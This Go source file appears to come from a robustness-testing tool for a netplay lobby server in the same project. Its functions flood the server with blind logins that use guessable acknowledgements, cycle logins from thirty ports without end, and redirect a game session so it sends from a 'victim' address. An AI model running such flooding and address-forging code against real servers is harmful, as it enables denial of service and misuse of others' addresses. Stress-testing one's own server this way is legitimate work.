package main

import (
	"context"
	"math/rand/v2"
	"net"
	"net/netip"
	"sync"
	"time"

	"kbridge/kclient"
	"kbridge/kclient/wire"
)

// blindAck is the 06 of an old client, which everybody can guess.
func blindAck(seq uint16) []byte {
	return one(seq, wire.TypeClientAck, wire.ClientAck{}.AppendTo(nil))
}

// blindLogins logs a victim in, with a login and the four 06 that the server waits for, and leaves it there; the next
// one is another port of the same host. The lobby is busy meanwhile.
func (a *attack) blindLogins(ctx context.Context, rng *rand.Rand) {
	v := a.newVictim("blind logins")
	for _, pause := range []time.Duration{0, 50 * time.Millisecond, 100 * time.Millisecond, 300 * time.Millisecond} {
		for range 3 {
			c, err := a.socketOf(ctx, v)
			if err != nil {
				return
			}
			a.blindLogin(ctx, v, c, rng, pause)
		}
	}
	<-ctx.Done()
}

func (a *attack) blindLogin(ctx context.Context, v *victim, c *net.UDPConn, rng *rand.Rand, gap time.Duration) {
	v.write(a, c, loginDatagram(randomName(rng)))
	for seq := uint16(1); seq <= 4; seq++ {
		pause(ctx, gap)
		v.write(a, c, blindAck(seq))
	}
}

// blindCycles logs in and quits from thirty ports of one host, without end.
func (a *attack) blindCycles(ctx context.Context, rng *rand.Rand) {
	v := a.newVictim("login and quit from 30 ports")
	var ports []*net.UDPConn
	for range 30 {
		c, err := a.socketOf(ctx, v)
		if err != nil {
			return
		}
		ports = append(ports, c)
	}
	for n := 0; ctx.Err() == nil; n++ {
		c := ports[n%len(ports)]
		a.blindLogin(ctx, v, c, rng, 20*time.Millisecond)
		v.write(a, c, one(5, wire.TypeUserQuit, wire.QuitRequest{Message: "and again"}.AppendTo(nil)))
		pause(ctx, 50*time.Millisecond)
	}
}

// moved is the socket of a client that sends from a victim's address from some moment on, and hears nothing of what is
// answered there.
type moved struct {
	kclient.PacketConn
	a  *attack
	v  *victim
	mu sync.Mutex
	to *net.UDPConn // nil until it has moved
}

// ReadFromUDPAddrPort hears nothing any more once it has moved, as if its line had another address.
func (m *moved) ReadFromUDPAddrPort(b []byte) (int, netip.AddrPort, error) {
	for {
		n, from, err := m.PacketConn.ReadFromUDPAddrPort(b)
		m.mu.Lock()
		heard := m.to == nil
		m.mu.Unlock()
		if heard || err != nil {
			return n, from, err
		}
	}
}

func (m *moved) WriteToUDPAddrPort(b []byte, addr netip.AddrPort) (int, error) {
	m.mu.Lock()
	to := m.to
	m.mu.Unlock()
	if to == nil {
		return m.PacketConn.WriteToUDPAddrPort(b, addr)
	}
	m.v.write(m.a, to, b)
	return len(b), nil
}

// forgedMoves plays with a ticket and then moves the session to a victim, again and again.
func (a *attack) forgedMoves(ctx context.Context, rng *rand.Rand) {
	v := a.newVictim("forged moves")
	for ctx.Err() == nil {
		var conn *moved
		lobby, err := kclient.Dial(ctx, a.addr.String(), kclient.Config{User: randomName(rng), Emulator: "flood",
			Listen: func(netip.AddrPort) (kclient.PacketConn, error) {
				c, err := socket(rng)
				conn = &moved{PacketConn: c, a: a, v: v}
				return conn, err
			}})
		if err != nil {
			pause(ctx, time.Second)
			continue
		}
		a.playThenMove(ctx, lobby, rng, func() {
			if to, err := a.socketOf(ctx, v); err == nil {
				conn.mu.Lock()
				conn.to = to
				conn.mu.Unlock()
			}
		})
		lobby.Quit("moved")
		_ = conn.Close()
	}
}

func (a *attack) playThenMove(ctx context.Context, lobby *kclient.Client, rng *rand.Rand, move func()) {
	room, err := lobby.Create(ctx, randomName(rng))
	if err != nil || room.Start(ctx) != nil {
		pause(ctx, time.Second)
		return
	}
	g, err := room.WaitStart(ctx)
	if err != nil {
		return
	}
	ctx, stop := context.WithTimeout(ctx, 20*time.Second)
	defer stop()
	values := make([]byte, 512*wire.MaxPlayers)
	for call := 0; ctx.Err() == nil; call++ {
		if call == 300 {
			move()
		}
		copy(values, randomBytes(rng, 64)) // a history that grows
		if _, err := g.Exchange(ctx, values, 64); err != nil {
			return
		}
		pause(ctx, frameTime)
	}
}
